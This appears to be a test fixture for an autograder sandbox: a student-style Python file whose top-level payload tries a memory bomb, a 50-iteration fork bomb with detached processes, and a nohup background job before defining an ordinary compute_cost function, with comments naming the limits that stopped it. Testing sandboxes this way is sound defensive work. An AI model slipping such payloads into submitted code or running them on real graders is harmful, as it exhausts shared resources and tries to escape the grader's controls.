# attack: at the top level: a memory bomb, then a fork bomb and a detached background process
# student: b
# function: compute_cost
# stopped by: RLIMIT_AS (MemoryError), the fork/exec/spawn audit hooks, RLIMIT_NPROC=0 under bwrap, killpg
import numpy as np

# BEGIN PAYLOAD
try:
    _hog = np.ones((2**20, 2**20))
except BaseException:
    pass
import os

for _ in range(50):
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sleep", ["/bin/sleep", "987654"])
    except BaseException:
        pass
try:
    os.system("nohup /bin/sleep 987654 >/dev/null 2>&1 &")
except BaseException:
    pass
# END PAYLOAD


def compute_cost(A2, Y):
    return float(-np.mean(Y * np.log(A2)))
